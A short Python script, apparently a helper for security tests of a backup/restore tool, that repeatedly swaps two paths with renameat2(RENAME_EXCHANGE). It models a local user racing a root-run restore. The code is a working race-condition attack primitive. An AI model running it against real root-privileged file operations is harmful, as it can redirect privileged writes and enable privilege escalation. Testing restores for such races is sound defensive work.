#!/usr/bin/env python3
"""Swaps two names with renameat2(RENAME_EXCHANGE) as fast as it can: the attack of a local user
who can write in a restore's destination on a restore running as root.

usage: exchange.py A B STOPFILE SECONDS

Swaps A and B (both may be missing at first: the call then just fails) until STOPFILE exists or
SECONDS have passed, then prints how many swaps succeeded.
"""

import ctypes
import os
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2


def main():
    a, b, stop, seconds = sys.argv[1].encode(), sys.argv[2].encode(), sys.argv[3], float(sys.argv[4])
    libc = ctypes.CDLL(None, use_errno=True)
    swap = libc.renameat2
    deadline = time.monotonic() + seconds
    swapped = 0
    while time.monotonic() < deadline and not os.path.exists(stop):
        for _ in range(500):
            if swap(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0:
                swapped += 1
    print(swapped)


if __name__ == "__main__":
    main()
